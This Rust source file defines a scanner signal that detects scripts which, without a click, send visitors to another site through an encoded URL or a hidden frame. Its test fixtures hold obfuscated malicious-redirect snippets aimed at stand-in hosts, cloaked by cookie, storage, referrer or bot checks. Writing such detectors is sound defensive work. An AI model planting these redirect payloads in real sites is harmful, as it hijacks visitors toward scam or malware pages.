//! `coded-address-left-to`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coded-address-left-to",
    description: "The script sends some visitors, without a click, to another site through an encoded URL, or shows it in a frame.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::CodedAway, Atom::FrameFromCoded]),
        one(&[
            Atom::Storage,
            Atom::Cookie,
            Atom::Referrer,
            Atom::BrowserCheck,
            Atom::Robot,
            Atom::Devtools,
            Atom::LocalTime,
            Atom::SignedIn,
            Atom::PaymentPlace,
            Atom::Drawn,
        ]),
    ],
    within: 150,
    only_if: Some(leaves),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"(function(){var l='=UGbw1WY4VmLuFWZjVXZsJmLvdmb'.split('').reverse().join('');if(localStorage.k)return;localStorage.k=1;top.location.href=atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x')+'&t='+n})()"#,
            r#"if(!sessionStorage.k){sessionStorage.k=1;setTimeout(()=>{window['location']=String.fromCharCode(104,116,116,112,115,58,47,47,112,114,105,122,101,115,46,101,120,97,109,112,108,101)},900)}"#,
            r#"if(screen.width<500&&!/bot/i.test(navigator.userAgent))location.replace(atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x'))"#,
            r#"define('a',['exports'],function(exports){exports.ping=function(){if(document.referrer)location.assign(atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x'))};document.addEventListener('DOMContentLoaded',exports.ping)})"#,
            r#"if(Math.random()<.2&&!document.getElementById('wpadminbar'))document.write('<iframe width=1 height=1 src="'+atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x')+'"></iframe>')"#,
            r#"if(!document.cookie){var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x');document.head.append(m)}"#,
            r#"var f=document.createElement('form');f.action=atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x');if(!document.cookie){document.body.appendChild(f);f.submit()}"#,
        ],
        without: &[
            r#"var f=document.createElement('form');f.action=atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x');if(!document.cookie)document.body.appendChild(f)"#,
            r#"go.onclick=()=>{location.href=atob('aHR0cHM6Ly9nby5ibHVlb2NlYW4uZXhhbXBsZS8/cz0x')}"#,
            r#"if(location.hostname!==atob('d3d3LnNob3AuZXhhbXBsZQ=='))location=atob('aHR0cHM6Ly93d3cuc2hvcC5leGFtcGxlLw==')"#,
            r#"if(!document.referrer)setTimeout(()=>{location.href='https://prizes.example/'},900)"#,
            r#"location.href=atob('L2FjY291bnQvb3ZlcnZpZXc=')"#,
        ],
    },
};

/// Whether nobody starts what goes there. A form goes when it is sent. A frame is one that nobody sees, or nothing but it.
fn leaves(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let goes = |at: usize| {
        if near.has_fact_in(at..at + 1, &[Atom::FrameFromCoded]) {
            let frame = near.among(at.saturating_sub(FRAME)..at + FRAME);
            return frame.is_hidden()
                || frame.has_fact(&[Atom::HiddenTag])
                || frame.has_text(&["100%", "100vw", "inset:0"]);
        }
        let is_form = matches!(near.word(at), "action" | "setAttribute" | "attr");
        !is_form || Near::new(evidence, held, SENT).has_word(&["submit", "requestSubmit"])
    };
    let unasked = |at: usize| {
        near.has_fact_in(at..at + 1, &[Atom::CodedAway, Atom::FrameFromCoded])
            && goes(at)
            && near.runs_unasked(at)
    };
    near.places().any(unasked)
}

/// Items between the address of a frame and how it looks.
const FRAME: usize = 40;
/// Items between where a form leads and where it is sent.
const SENT: usize = 80;
